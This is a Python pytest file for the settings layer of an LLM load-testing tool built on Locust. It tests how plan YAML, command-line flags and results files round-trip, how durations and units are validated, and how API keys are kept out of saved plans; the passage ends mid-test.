"""The settings model: every option declared once, and each way in or out of it derived from that.

A plan's every key reaches the run and its results and comes back from them; the command line wins
over the plan; bad values are refused naming the flag typed or the plan's file:line."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml

from llm_locust.settings import derive
from llm_locust.settings.model import Settings, options
from llm_locust.settings.units import PlanError

REPO = Path(__file__).resolve().parent.parent
PLANS = REPO / "plans"
TRACE = REPO / "traces" / "azure2023_conv_head200.csv"


def write(tmp_path, text, name="plan.yaml"):
    p = tmp_path / name
    p.write_text(text)
    return p


def load(tmp_path, text) -> Settings:
    return derive.resolve(derive.load_plan(write(tmp_path, text)))


def problems(tmp_path, text) -> list[str]:
    with pytest.raises(PlanError) as e:
        load(tmp_path, text)
    return e.value.problems


def cli(*argv: str) -> derive.Given:
    ns, rest = derive.run_parser().parse_known_args(list(argv))
    assert rest == []
    return derive.cli_values(ns)


def nested(path: str, value) -> dict:
    out: dict = {}
    target = out
    parts = path.split(".")
    for p in parts[:-1]:
        target = target.setdefault(p, {})
    target[parts[-1]] = value
    return out


def merge(a: dict, b: dict) -> dict:
    for k, v in b.items():
        a[k] = merge(a[k], v) if isinstance(v, dict) and isinstance(a.get(k), dict) else v
    return a


# A value other than the default for every setting a plan can hold, with what it needs beside it.
# A new setting without a row here fails test_every_setting_has_a_sample: the walks cover it.
def samples(tmp_path) -> dict[str, tuple[object, dict]]:
    tok = tmp_path / "tok"
    tok.mkdir(exist_ok=True)
    lf = write(tmp_path, "from llm_locust.users import StreamingUser  # noqa\n", "mine.py")
    schema = write(tmp_path, '{"type": "object", "required": ["a"]}', "schema.json")
    ladder = {"ladder": "concurrency:1,2"}
    stable = {"ladder": "rate:1,2", "stable_window": 5.0}
    return {
        "host": ("http://127.0.0.1:9", {}),
        "api": ("tgi", {}),
        "model": ("m1:0.7,m2:0.3", {}),
        "trace_models": (True, {}),
        "endpoints": ("http://127.0.0.1:10,http://127.0.0.1:11", {}),
        "route": ("affinity", {}),
        "session_headers": ("x-session-id,x-route-key", {}),
        "api_key_env": ("MY_KEY", {}),
        "connect_timeout": (2.5, {}),
        "no_progress_timeout": (7.0, {}),
        "request_timeout": (90.0, {}),
        "max_head_bytes": (32768, {}),
        "max_event_bytes": (1048576, {}),
        "max_body_bytes": (65536, {}),
        "preflight": (False, {}),
        "fail_fast": (False, {}),
        "fail_fast_after": (5, {}),
        "trace": (str(TRACE), {}),
        "trace_format": ("azure2023", {"trace": str(TRACE)}),
        "synthetic": ("requests=10,input=uniform:10:20,output=8,rate=2,arrivals=constant,prefix_tokens=4,seed=3", {}),
        "tokenizer": (str(tok), {}),
        "think_time": (0.25, {}),
        "max_in_flight": (5, {}),
        "max_idle": (5.0, {}),
        "mid_start": (True, {}),
        "cache_bust": (False, {}),
        "max_tokens": (64, {}),
        "max_tokens_cap": (512, {}),
        "force_length": (False, {}),
        "continuous_usage": (True, {}),
        "seed": (11, {}),
        "images": (2, {}),
        "image_size": ("64x32", {}),
        "image_format": ("jpeg", {}),
        "audio": (2, {}),
        "audio_seconds": (1.5, {}),
        "tools": (3, {}),
        "tool_choice": ("required", {}),
        "response_format": (str(schema), {}),
        "mix": ({"embeddings": 0.2, "rerank": 0.1}, {}),
        "graded": ("builtin", {}),
        "graded_share": (0.3, {}),
        "graded_max_tokens": (16, {}),
        "users": (3, {}),
        "spawn_rate": (1.5, {}),
        "run_time": ("90s", {}),
        "replay": (True, {}),
        "speed": (2.5, {}),
        "start_offset": (30.0, {}),
        "duration": (120.0, {}),
        "loops": (2, {}),
        "ladder": ("rate:1,2,4", {}),
        "warmup": (3.0, ladder),
        "step_duration": (25.0, ladder),
        "step_requests": (100, ladder),
        "refine": (3, ladder),
        "stable_window": (5.0, {"ladder": "rate:1,2"}),
        "stable_tolerance": (0.1, stable),
        "stable_max_extend": (20.0, stable),
        "stable_windows": (4, stable),
        "arrivals": ("constant", {"ladder": "rate:1,2"}),
        "early_stop": (False, {}),
        "max_error_rate": (0.2, {}),
        "flat_steps": (3, {}),
        "flat_tolerance": (0.1, {}),
        "stop_on_slo": (True, {}),
        "burst_recovery": (30.0, {"ladder": "burst:rate=4,x=3,for=10s"}),
        "kv_pressure": (True, {}),
        "kv_min_load": (16.0, {}),
        "overlong_share": (0.1, {"overlong_tokens": 5000}),
        "overlong_tokens": (9000, {}),
        "overlong_baseline": (str(write(tmp_path, "{}", "clean.json")), {}),
        "overlong_tolerance": (0.2, {}),
        "soak_window": (60.0, {}),
        "soak_max_drift": (0.2, {}),
        "soak_max_error_rate": (0.1, {}),
        "soak_max_memory_growth": (512.0, {}),
        "workers": (2, {}),
        "stream_rate": (100.0, {}),
        "locustfile": (str(lf), {}),
        "slo": ({"ttft": 0.5, "e2e_p99": 30.0, "error_rate": 0.01}, {}),
        "name": ("nightly", {}),
        "description": ("what it is for", {}),
        "results": ("out/r.json", {}),
        "report": ("out/r.html", {}),
        "record_log": ("out/log.jsonl", {}),
        "server_metrics": ("http://127.0.0.1:9/metrics", {}),
        "gpu_metrics": ("http://127.0.0.1:9401/metrics", {}),
        "metrics_interval": (0.5, {}),
        "prometheus_port": (9646, {}),
        "prometheus_host": ("0.0.0.0", {}),
        "gpus": (8, {}),
        "prefill_gpus": (2, {"decode_gpus": 6}),
        "decode_gpus": (6, {"prefill_gpus": 2}),
        "gpu_hour_price": (3.5, {}),
        "gpu_prices": ({"H200": 3.5, "NVIDIA A100-SXM4-80GB": 1.8}, {}),
        "gpu_power_w": (700.0, {}),
        "agent_tier": ("ttft=2000ms,speed=20,share=90%", {"ladder": "concurrency:sla:1..64:5%"}),
        "grid": ("isl=128,1024:osl=64", ladder),
        "repeat": (3, {}),
        "reset_hook": ("systemctl restart my-server", {}),
        "reset_cache": ("repeat", {}),
        "baseline": (str(TRACE), {"repeat": 3}),
        "tolerance": ("3%", {"repeat": 3, "baseline": str(TRACE)}),
        "junit": ("out/gates.xml", {"repeat": 3, "baseline": str(TRACE)}),
        "max_prefill": (2, {"replay": True}),
        "arrivals_burstiness": (0.5, {"ladder": "rate:1,2"}),
        "prefix_hit": (0.5, {"synthetic": "requests=10,input=64,output=4"}),
        "run_warmup": (10.0, {}),
        "warmup_requests": (2, {}),
        "cancel": ("0.2:after=uniform:1s:4s", {}),
        "rate_curve": ("sine:mean=8,amp=4,period=60s", {"synthetic": "requests=10,input=64,output=4"}),
        "prefix_dist": ("zipf:1.1:100", {"synthetic": "requests=10,input=64,output=4,prefix_tokens=32"}),
        "slo_attainment": (0.9, {"slo": {"ttft": 0.5}}),
        "precision": ({"ttft.p99": 0.02, "output_tokens_per_s": 0.05}, {}),
        "progress_interval": (5.0, {}),
        "checkpoint_every": (30.0, {}),
        "locust_stats": (True, {}),
        "web_origins": ("https://loadtest.example.org", {}),
        "mlflow": ("http://127.0.0.1:5000", {}),
        "mlflow_experiment": ("nightly", {"mlflow": "http://127.0.0.1:5000"}),
        "mlflow_run_name": ("r1", {"mlflow": "http://127.0.0.1:5000"}),
        "mlflow_timeout": (5.0, {"mlflow": "http://127.0.0.1:5000"}),
        "sim_slots": (32, {}),
        "sim_fast": (True, {}),
        "sim_graded_accuracy": (0.5, {}),
    }


def test_every_setting_has_a_sample(tmp_path):
    planned = {n for n, (_, o) in options().items() if o.plan}
    assert planned == set(samples(tmp_path))
    # how to run, not what; and a file cannot trust itself
    assert {n for n, (_, o) in options().items() if not o.plan} == {"web", "web_keep_open", "trust_plan"}


def _yaml_of(values: dict) -> str:
    from llm_locust.settings.ladder_spec import parse_ladder

    doc: dict = {}
    for name, v in values.items():
        if name == "ladder":  # the mapping form, beside the step timing
            ld = parse_ladder(v)
            v = {"kind": ld.kind, "burst": ld.burst.spec()} if ld.burst else {"kind": ld.kind, "steps": list(ld.levels)}
        if name == "slo":  # latency limits with their unit, as a person writes them
            v = {k: x if k == "error_rate" else f"{x}s" for k, x in v.items()}
        merge(doc, nested(options()[name][1].plan, v))
    return yaml.safe_dump(doc)


def _through_locust(s: Settings) -> Settings:
    """What a Locust process makes of the settings `llm-locust run` forwards: Locust's real parser
    with our options on it, then from_options."""
    import locust
    from locust.argument_parser import get_parser

    argv = ["-f", "x.py"] + derive.to_locust_argv(s)
    if s.host:
        argv += ["--host", s.host]
    for name, flag in (("users", "-u"), ("spawn_rate", "-r"), ("run_time", "-t")):
        if getattr(s, name) is not None:
            argv += [flag, str(getattr(s, name))]
    locust.events.init_command_line_parser.add_listener(_add)
    try:
        ns = get_parser().parse_args(argv)
    finally:
        locust.events.init_command_line_parser.remove_listener(_add)
    return derive.from_options(ns)


def _add(parser, **_kw):
    derive.add_locust_arguments(parser)


def test_every_plan_key_reaches_the_run_the_results_and_the_rerun(tmp_path):
    """YAML -> the run's settings (through Locust's parser) -> the results file's effective plan ->
    `llm-locust run RESULTS.json` -> the same value, for each setting alone."""
    run_only = {n for n, (_, o) in options().items() if o.run_only}
    for name, (value, beside) in samples(tmp_path).items():
        s1 = load(tmp_path, _yaml_of({**beside, name: value}))
        assert getattr(s1, name) == value, name
        if name in run_only:
            s2 = s1  # `llm-locust run` uses it itself and hands it to the plugin for the plan
        else:
            s2 = _through_locust(s1)
            assert getattr(s2, name) == value, name
        plan = derive.to_plan(s2.model_copy(update={n: getattr(s1, n) for n in run_only}))
        results = tmp_path / "results.json"
        results.write_text(json.dumps({"plan": plan}))
        s3 = derive.resolve(derive.plan_values(json.loads(results.read_text())["plan"], source=str(results)))
        assert getattr(s3, name) == value, name
        assert s3 == s1, name


def test_the_command_line_wins_over_the_plan(tmp_path):
    rows = samples(tmp_path)
    for name, (value, beside) in rows.items():
        _, opt = options()[name]
        default = options()[name][0]
        plan_value = {"api": "ollama-chat", "ladder": "rate:1,2"}.get(name, default)
        plan = derive.load_plan(
            write(
                tmp_path,
                _yaml_of({**beside, name: plan_value})
                if plan_value not in ("", None, {})
                else _yaml_of(beside) or "{}\n",
            )
        )
        flag = opt.flag_for(name)
        if isinstance(default, bool):
            argv = [flag]
        elif isinstance(value, dict) and name == "slo":
            argv = [flag, ",".join(f"{k}={v}" if k == "error_rate" else f"{k}={v}s" for k, v in value.items())]
        elif isinstance(value, dict) and name == "mix":
            argv = [flag, ",".join(f"{k}:{v}" for k, v in value.items())]
        elif isinstance(value, dict):
            argv = [flag, ",".join(f"{k}={v}" for k, v in value.items())]
        else:
            argv = [flag, str(value)]
        s = derive.resolve(plan, cli(*argv))
        assert getattr(s, name) == value, name


def test_sample_plans_load():
    seed = derive.resolve(derive.load_plan(PLANS / "seed-concurrency-ladder.yaml"))
    assert seed.ladder == "concurrency:1,4,8,16,32" and seed.api == "openai-chat" and seed.host == ""
    assert seed.slo == {"ttft": 0.5, "ttft_p50": 0.2, "tpot_p50": 0.05} and seed.sim_slots == 8
    assert (seed.step_duration, seed.warmup, seed.name) == (40, 10, "seed concurrency ladder")
    assert seed.synthetic.startswith("requests=1000,input=512,output=128,") and seed.synthetic.endswith("seed=1")
    qps = derive.resolve(derive.load_plan(PLANS / "qps-ladder.yaml"))
    assert qps.ladder.startswith("rate:") and (qps.stable_window, qps.stable_max_extend) == (10, 60)
    assert qps.slo["error_rate"] == 0.01 and qps.request_timeout == 300
    replay = derive.resolve(derive.load_plan(PLANS / "trace-replay-1x-2x.yaml"))
    assert replay.trace == str(TRACE) and replay.trace_format == "azure2023" and replay.early_stop is False


@pytest.mark.parametrize("name", ["seed-concurrency-ladder", "qps-ladder", "trace-replay-1x-2x"])
def test_effective_plan_round_trips_as_yaml(name, tmp_path):
    s = derive.resolve(derive.load_plan(PLANS / f"{name}.yaml"))
    again = load(tmp_path, yaml.safe_dump(derive.to_plan(s)))
    assert again == s


def test_results_of_the_last_round_still_run(tmp_path):
    """An effective plan as results v1/v2 kept it (Plan.to_dict of the first round)."""
    old = {
        "name": "x",
        "description": "",
        "host": "",
        "api": "openai-chat",
        "model": "",
        "api_key_env": "OPENAI_API_KEY",
        "workload": {"trace": str(TRACE), "format": "", "tokenizer": "", "think_time": 0.0, "max_in_flight": 0},
        "ladder": {
            "kind": "concurrency",
            "steps": [1, 2],
            "duration": 20.0,
            "warmup": 5.0,
            "requests": 0,
            "stable": None,
        },
        "max_tokens": 0,
        "max_tokens_cap": 0,
        "force_length": True,
        "continuous_usage": False,
        "slos": {"ttft": 0.5},
        "timeouts": {"connect": 10.0, "no_progress": 60.0, "request": 600.0},
        "early_stop": {
            "enabled": True,
            "max_error_rate": 0.05,
            "flat_steps": 2,
            "flat_tolerance": 0.05,
            "on_slo": False,
        },
        "seed": 0,
        "results": "",
        "report": "",
        "workers": 0,
        "sim": {"slots": 8, "fast": False},
    }
    s = derive.resolve(derive.plan_values(old, source="old.json"))
    assert (s.ladder, s.step_duration, s.warmup, s.slo, s.name) == ("concurrency:1,2", 20, 5, {"ttft": 0.5}, "x")


def test_durations_take_units_everywhere(tmp_path):
    s = derive.resolve(
        None, cli("--request-timeout", "2m", "--warmup", "500ms", "--think-time", "1.5s", "--metrics-interval", "250ms")
    )
    assert (s.request_timeout, s.warmup, s.think_time, s.metrics_interval) == (120, 0.5, 1.5, 0.25)
    s = load(tmp_path, "timeouts: {request: 2m}\nladder: {kind: rate, steps: [1], duration: 1m, warmup: 500ms}\n")
    assert (s.request_timeout, s.step_duration, s.warmup) == (120, 60, 0.5)


def test_a_bare_slo_number_is_seconds_and_a_large_one_is_refused(tmp_path):
    assert derive.resolve(None, cli("--slo", "ttft=0.5,tpot=50ms,error_rate=1%")).slo == {
        "ttft": 0.5,
        "tpot": 0.05,
        "error_rate": 0.01,
    }
    assert derive.resolve(None, cli("--slo", "ttft=500ms")).slo == {"ttft": 0.5}  # refused in the first round
    with pytest.raises(PlanError, match=r"--slo: ttft=500 would be 500 seconds: write the unit \(500ms or 500s\)"):
        derive.resolve(None, cli("--slo", "ttft=500"))
    assert "slos: ttft=500 would be 500 seconds" in problems(tmp_path, "slos: {ttft: 500}\n")[0]
    assert load(tmp_path, "slos: {e2e: 30s}\n").slo == {"e2e": 30.0}
    assert "a bare number is seconds and must be below 10" in " ".join(derive.run_parser().format_help().split())


@pytest.mark.parametrize(
    "argv, message",
    [
        (["-u", "0"], "-u/--users: Input should be greater than or equal to 1, got '0'"),
        (["-u", "-3"], "-u/--users: Input should be greater than or equal to 1, got '-3'"),
        (["--speed", "0"], "--speed: Input should be greater than 0, got '0'"),
        (["--api", "openai-cht"], "--api: unknown API 'openai-cht' (did you mean 'openai-chat'?)"),
        (
            ["--request-timeout", "soon"],
            "--request-timeout: expected seconds (a number, or e.g. 500ms, 30s, 2m), got 'soon'",
        ),
        (["-t", "forever"], "-t/--run-time: expected a run time like 30s, 5m, 1h30m, got 'forever'"),
        (["--max-error-rate", "5"], "--max-error-rate: Input should be less than or equal to 1"),
        (["--max-error-rate", "150%"], "--max-error-rate: Input should be less than or equal to 1"),
        (["--max-error-rate", "five%"], "--max-error-rate: expected a fraction or a percentage (5%), got"),
        (["--ladder", "users:1..4"], "--ladder: ladder 'users:1..4': unknown kind 'users'"),
        (["--ladder", "concurrency:1..4", "--warmup", "50"], "--warmup: 50 s is not shorter than the step duration"),
        (["--trace", "/nonexistent.csv"], "--trace: no such file or folder /nonexistent.csv"),
        (
            ["--trace", str(TRACE), "--synthetic", "requests=5"],
            "--trace: give a trace or a synthetic workload, not both",
        ),
        (["--api-key-env", "not a name"], "--api-key-env: String should match pattern"),
    ],
)
def test_bad_values_name_the_option_typed(argv, message):
    with pytest.raises(PlanError) as e:
        derive.resolve(None, cli(*argv))
    assert any(p.startswith(message) for p in e.value.problems), e.value.problems


def test_a_share_takes_a_percentage_as_the_summary_prints_it(tmp_path):
    """`--max-error-rate 5%` (the summary prints `within --max-error-rate 5.0%`) was refused: "unable
    to parse string as a number". A plan's `5%` reads the same."""
    assert derive.resolve(None, cli("--max-error-rate", "2.5%")).max_error_rate == pytest.approx(0.025)
    plan = tmp_path / "p.yaml"
    plan.write_text("early_stop:\n  max_error_rate: 10%\n")
    assert derive.resolve(derive.load_plan(plan)).max_error_rate == pytest.approx(0.10)


@pytest.mark.parametrize(
    "argv, message",
    [
        (["-t", "99999999h"], "-t/--run-time: '99999999h' is 359999996400 seconds, more than 2592000 s (30 days)"),
        (["-t", "721h"], "-t/--run-time: '721h' is 2595600 seconds, more than 2592000 s (30 days)"),
        (["--think-time", "1e12s"], "--think-time: 1000000000000 seconds, more than 2592000 s (30 days)"),
        (["--request-timeout", "999999h"], "--request-timeout: 3599996400 seconds, more than 2592000 s"),
    ],
)
def test_durations_past_thirty_days_are_refused(argv, message):
    """Issue 35: `-t 1e12s`-like run times were taken, holding the machine for ever; every duration
    is bounded by limits.MAX_SECONDS, and the bound itself still runs."""
    with pytest.raises(PlanError) as e:
        derive.resolve(None, cli(*argv))
    assert any(p.startswith(message) for p in e.value.problems), e.value.problems
    assert derive.resolve(None, cli("-t", "720h")).run_time == "720h"


def test_a_run_time_past_the_bound_exits_2_in_one_line():
    from support import run_cli

    p = run_cli("-t", "1000000h", timeout=60)
    assert p.returncode == 2, p.stdout[-2000:] + p.stderr[-2000:]
    assert "-t/--run-time: '1000000h' is 3600000000 seconds, more than 2592000 s (30 days)" in p.stderr
    assert "Traceback" not in p.stderr


def test_unknown_keys_are_named_with_their_line_and_the_valid_ones(tmp_path):
    p = problems(tmp_path, "host: http://h:1\nladdr: concurrency:1..4\nworkload:\n  trace_file: x.csv\n")
    assert p[0].startswith(
        f"{tmp_path / 'plan.yaml'}:2: laddr: unknown key 'laddr' (did you mean 'ladder'?); known: host, api,"
    )
    assert (
        ":4: workload.trace_file: unknown key 'trace_file' (did you mean 'tracefile'?)" in p[1]
        or ":4: workload.trace_file: unknown key 'trace_file'" in p[1]
    )
    assert "known: trace, format, synthetic, tokenizer, think_time, max_in_flight" in p[1]
    p = problems(tmp_path, "ladder:\n  kind: concurrency\n  stpes: [1, 2]\n")
    assert any(":3: ladder.stpes: unknown key 'stpes' (did you mean 'steps'?)" in x for x in p)
    p = problems(tmp_path, "ladder: {kind: rate, steps: [1], stable: {window: 5, tolerence: 0.1}}\n")
    assert any("ladder.stable.tolerence: unknown key 'tolerence' (did you mean 'tolerance'?)" in x for x in p)
    assert "api_key: never put the key in a plan" in problems(tmp_path, "api_key: sk-123\n")[0]


def test_wrong_types_and_every_problem_at_once_in_file_order(tmp_path):
    p = problems(
        tmp_path,
        "max_tokens: many\nseed: 1.5\nforce_length: yes please\nworkload: [a]\ntimeouts: {connect: -1}\nbogus: 1\n",
    )
    assert [x.split(":")[1] for x in p] == ["1", "2", "3", "4", "5", "6"]
    text = "\n".join(p)
    assert ":1: max_tokens: Input should be a valid integer" in text
    assert ":2: seed: Input should be a valid integer, got a number with a fractional part" in text
    assert ":3: force_length: Input should be a valid boolean" in text
    assert ":4: workload: expected a mapping of trace, format, synthetic" in text
    assert ":5: timeouts.connect: Input should be greater than 0, got -1" in text
    assert ":6: bogus: unknown key 'bogus'" in text


def test_bad_ladders_slos_and_workloads_in_a_plan(tmp_path):
    cases = {
        "ladder: {kind: users, steps: [1]}": "ladder: ladder 'users:1': unknown kind 'users'",
        "ladder: {steps: [1]}": "ladder: missing kind: one of concurrency, rate, speed",
        "ladder: {kind: rate}": "ladder: no levels: give steps: [..] or start/stop (with factor or step)",
        "ladder: {kind: rate, steps: [1], start: 1, stop: 2}": "give either steps: [..] or start/stop",
        "ladder: {kind: rate, start: 8, stop: 2}": "start 8 > stop 2",
        "ladder: {kind: rate, steps: [4, 2]}": "levels must increase, got 2 after 4",
        "ladder: {kind: rate, steps: [1], warmup: 60, duration: 60}": (
            "ladder.warmup: 60 s is not shorter than the step duration"
        ),
        "ladder: {kind: rate, steps: [1], stable: {window: 40}}": (
            "ladder.stable.window: 40 s is longer than the measurement window"
        ),
        "ladder: {kind: rate, steps: [1], arrivals: bursty}": (
            "ladder.arrivals: unknown value 'bursty'; one of poisson, constant"
        ),
        "ladder: {kind: speed, steps: [1, 2]}\nworkload: {synthetic: 'requests=10'}": (
            "a speed ladder replays arrival times"
        ),
        "slos: {latency_p99: 1}": "slos: unknown SLO metric 'latency_p99'",
        "slos: {ttfd: 1}": "(did you mean 'ttft'?)",
        "host: localhost:8000": "host: expected a URL like http://127.0.0.1:8000, got 'localhost:8000'",
        "api: openai": "api: unknown API 'openai' (did you mean 'openai-completions'?)",
        "workload: {trace: missing.csv}": f"workload.trace: no such file or folder {tmp_path / 'missing.csv'}",
        "workload: {format: azure}": "workload.format: unknown trace format 'azure' (did you mean 'azure2023'?)",
        "workload: {synthetic: 'requests=5,colour=red'}": "bad synthetic workload item 'colour=red'",
        "max_tokens: 100\nmax_tokens_cap: 50": "max_tokens: 100 is above max_tokens_cap 50",
        "sim: {slots: 0}": "sim.slots: Input should be greater than or equal to 1",
        "workers: -2": "workers: expected a number of workers >= 0 or auto, got -2",
    }
    for body, message in cases.items():
        p = problems(tmp_path, body + "\n")
        assert any(message in x for x in p), (body, p)
        assert all(x.startswith(str(tmp_path / "plan.yaml")) for x in p), p


def test_yaml_syntax_errors_duplicates_and_relative_paths(tmp_path):
    with pytest.raises(PlanError, match="not valid YAML"):
        derive.load_plan(write(tmp_path, "ladder:\n  kind: rate\n  steps: [1, 2\n"))
    with pytest.raises(PlanError, match=r":3: seed: duplicate key \(first at line 1\)"):
        derive.load_plan(write(tmp_path, "seed: 1\nhost: http://a:1\nseed: 2\n"))
    sub = tmp_path / "plans"
    sub.mkdir()
    (tmp_path / "t.jsonl").write_text('{"timestamp": 0, "input_tokens": 5, "output_tokens": 3}\n')
    assert load(sub, "workload: {trace: ../t.jsonl}\n").trace == str(tmp_path / "t.jsonl")
    s = load(sub, "workload:\n  synthetic: {output: 'empirical:../t.jsonl'}\n")
    assert f"output=empirical:{tmp_path / 't.jsonl'}" in s.synthetic
    assert load(sub, "results: r.json\n").results == "r.json"  # outputs: relative to where the run starts


def test_help_lists_every_option_grouped():
    text = derive.run_parser().format_help()
    for name, (_, opt) in options().items():
        assert opt.flag_for(name) in text, name
    from llm_locust.settings.model import GROUPS

    for head in GROUPS.values():
        assert head + ":" in text


def test_locust_reads_our_options_from_its_parser_config_file_and_environment(tmp_path, monkeypatch):
    import locust
    from locust.argument_parser import get_parser, ui_extra_args_dict

    locust.events.init_command_line_parser.add_listener(_add)
    try:
        monkeypatch.setenv("LOCUST_API", "tgi")
        conf = write(tmp_path, "request-timeout = 2m\n", "locust.conf")
        ns = get_parser().parse_args(["-f", "x.py", "--config", str(conf), "--slo", "ttft=500ms"])
        s = derive.from_options(ns)
        assert (s.api, s.request_timeout, s.slo) == ("tgi", 120, {"ttft": 0.5})
        # the web UI's start form: none of our options (paths, variable names, URLs are never set there)
        assert not set(ui_extra_args_dict(["-f", "x.py"])) & set(options())
    finally:
        locust.events.init_command_line_parser.remove_listener(_add)


def test_api_key_is_read_from_its_variable_and_never_in_the_plan(monkeypatch):
    monkeypatch.setenv("MY_KEY", "sk-secret")
    s = derive.resolve(None, cli("--api-key-env", "MY_KEY"))
    assert s.api_key == "sk-secret"
    assert "sk-secret" not in json.dumps(derive.to_plan(s)) and "sk-secret" not in json.dumps(s.public())
    assert "sk-secret" not in repr(s) and os.environ["MY_KEY"] == "sk-secret"


def test_a_trace_on_the_command_line_replaces_the_plans_synthetic_workload(tmp_path, monkeypatch):
    plan = derive.load_plan(PLANS / "seed-concurrency-ladder.yaml")
    monkeypatch.chdir(REPO)
    s = derive.resolve(plan, cli("--trace", "traces/azure2023_conv_head200.csv"))
    assert s.trace == str(TRACE) and s.synthetic == ""  # relative to where it was typed, kept absolute
    s = derive.resolve(derive.load_plan(PLANS / "trace-replay-1x-2x.yaml"), cli("--synthetic", "requests=5,rate=1"))
    assert s.trace == "" and s.trace_format == "" and s.synthetic.startswith("requests=5,")


def test_a_ladder_refuses_users_it_would_ignore():
    with pytest.raises(PlanError, match="-u/--users: a ladder sets the users of each step itself"):
        derive.resolve(None, cli("--ladder", "concurrency:1,2", "-u", "4"))


def test_every_option_names_its_plan_key_in_help():
    text = " ".join(derive.run_parser().format_help().split())
    for name, (_, opt) in options().items():
        if opt.plan:
            assert f"[plan: {opt.plan}]" in text, name


@pytest.mark.parametrize(
    "argv, cores, workers",
    [
        (["-u", "2000"], 16, 8),  # 2000 streams x 50 tokens/s = 100,000 tokens/s, ~14,000 a process
        (["-u", "100"], 16, 0),  # one process is plenty
        (["-u", "5000"], 4, 3),  # at most the cores less one
        (["-u", "2000"], 2, 0),  # two cores: a master and one worker gain nothing
        (["--ladder", "concurrency:1..1024"], 8, 4),  # 51,200 tokens/s
        (["--ladder", "rate:10..100", "--max-tokens", "500"], 8, 4),  # 100 req/s x 10 s each: 1,000 streams
        (["--ladder", "rate:10..100", "--max-tokens", "500", "--stream-rate", "100"], 8, 4),  # 5 s each: 500
        (["--replay", "--max-in-flight", "1600"], 8, 6),
        (["-u", "2000", "--workers", "1"], 16, 1),  # given: kept
        # issue 37: what a process holds is a token rate, not a number of streams
        (["-u", "500", "--stream-rate", "100"], 16, 4),  # 50,000 tokens/s: more than one process
        (["-u", "100", "--stream-rate", "20"], 16, 0),  # 2,000 tokens/s: one
        (["-u", "1000", "--stream-rate", "5"], 16, 2),  # 5,000 tokens/s, but 1,000 streams: two
    ],
)
def test_workers_auto_follows_the_planned_load(argv, cores, workers):
    from llm_locust.settings.workers import choose

    n, why = choose(derive.resolve(None, cli(*argv)), cores=cores)
    assert n == workers, why
    assert why == "given" if "--workers" in argv else why.startswith("auto:")


def test_a_replay_without_an_in_flight_cap_says_why_one_process():
    """It said "0 planned concurrent streams" for every replay."""
    from llm_locust.settings.workers import choose

    n, why = choose(derive.resolve(None, cli("--replay")), cores=8)
    assert n == 0 and why.startswith("auto: one process (a replay's concurrency is its trace's")


def test_workers_takes_a_number_or_auto():
    assert derive.resolve(None, cli("--workers", "auto")).workers == "auto"
    assert derive.resolve(None, cli("--workers", "3")).workers == 3
    for bad in ("-1", "many"):
        with pytest.raises(PlanError, match="--workers"):
            derive.resolve(None, cli("--workers", bad))


def test_an_sla_search_stays_a_search_in_the_effective_plan(tmp_path):
    s = derive.resolve(None, cli("--ladder", "sla:rate:1..64:5%", "--slo", "ttft=1s"))
    plan = derive.to_plan(s)
    assert plan["ladder"]["kind"] == "rate" and plan["ladder"]["search"] == "1..64:5%" and "steps" not in plan["ladder"]
    again = load(tmp_path, yaml.safe_dump(plan))
    assert again == s and again.ladder == "rate:sla:1..64:5%"
    assert (
        "a search chooses its own levels" in problems(tmp_path, "ladder: {kind: rate, search: '1..8', steps: [1]}\n")[0]
    )


def test_a_repeated_host_adds_endpoints_and_a_weighted_model_splits():
    ns = derive.run_parser().parse_args(
        [
            "--host",
            "http://127.0.0.1:1",
            "--host",
            "http://127.0.0.1:2/",
            "--host",
            "http://127.0.0.1:3",
            "--model",
            "base:3,lora-a:1",
        ]
    )
    s = derive.resolve(None, derive.cli_values(ns))
    assert s.endpoint_list == ["http://127.0.0.1:1", "http://127.0.0.1:2", "http://127.0.0.1:3"]
    assert s.model_split == [("base", 0.75), ("lora-a", 0.25)]
    assert Settings(model="llama3:8b").model_split == [("llama3:8b", 1.0)]  # a tag, not a weight
    with pytest.raises(Exception, match="listed twice"):
        Settings(endpoints="http://127.0.0.1:2,http://127.0.0.1:2")
    with pytest.raises(Exception, match="weight must be > 0"):
        Settings(model="a:0,b:1")


def test_an_endpoints_file_names_its_bad_line(tmp_path):
    f = tmp_path / "hosts.txt"
    f.write_text("# replicas\nhttp://127.0.0.1:8001\nhttp://127.0.0.1:8002  # second\n")
    assert Settings(endpoints=f"@{f}").endpoints == "http://127.0.0.1:8001,http://127.0.0.1:8002"
    f.write_text("http://127.0.0.1:8001\nnot-a-url\n")
    with pytest.raises(Exception, match=r"hosts.txt:2: expected a URL"):
        Settings(endpoints=f"@{f}")


# ---- issue 24: durations, enums, sections, sizes, files as data, re-runs ----


def _durations() -> list[str]:
    return [n for n, (_, o) in options().items() if o.unit == "s"]


def test_every_duration_follows_one_rule_for_bare_numbers(tmp_path):
    """A bound for each (declared once, in its Opt), the default under it, a bare number from it up
    refused with the "write the unit" message, on the command line and in a plan alike; with its
    unit any value is taken; --help states the bound."""
    from llm_locust.settings.units import is_bare

    help_text = " ".join(derive.run_parser().format_help().split())
    for name in _durations() + ["run_time"]:
        default, opt = options()[name]
        assert opt.bare_below, name
        assert default is None or (not is_bare(default) or default < opt.bare_below), name
        bare = f"{opt.bare_below:.0f}"
        with pytest.raises(PlanError, match=rf"{bare} would be {bare} seconds: write the unit"):
            derive.resolve(None, cli(opt.flag_for(name), bare))
        with pytest.raises(PlanError, match=rf"{opt.plan}: {bare} would be {bare} seconds"):
            load(tmp_path, yaml.safe_dump(nested(opt.plan, int(opt.bare_below))))
        assert f"a bare number is seconds, below {bare})" in help_text, name
    s = derive.resolve(None, cli("--think-time", "59", "--no-progress-timeout", "500s", "--request-timeout", "2h"))
    assert (s.think_time, s.no_progress_timeout, s.request_timeout) == (59, 500, 7200)


def test_large_durations_survive_the_effective_plan_and_old_results(tmp_path):
    """The effective plan writes a duration past its bound with its unit, so it reads back; a
    results file's plan (written by llm-locust, older ones bare) is seconds whatever the size."""
    s = derive.resolve(None, cli("--request-timeout", "2h", "--think-time", "90s"))
    plan = derive.to_plan(s)
    assert plan["timeouts"]["request"] == "7200s" and plan["workload"]["think_time"] == "90s"
    assert derive.resolve(derive.plan_values(plan, source="r.json")) == s
    old = {"timeouts": {"request": 7200}, "workload": {"think_time": 90}}
    again = derive.resolve(derive.plan_values(old, source="old.json", written=True))
    assert (again.request_timeout, again.think_time) == (7200, 90)
    assert "--request-timeout" in derive.to_locust_argv(s) and "7200s" in derive.to_locust_argv(s)


def test_every_enum_gets_a_did_you_mean():
    """Each setting whose values are a fixed list: a typo of its first value is named, with the
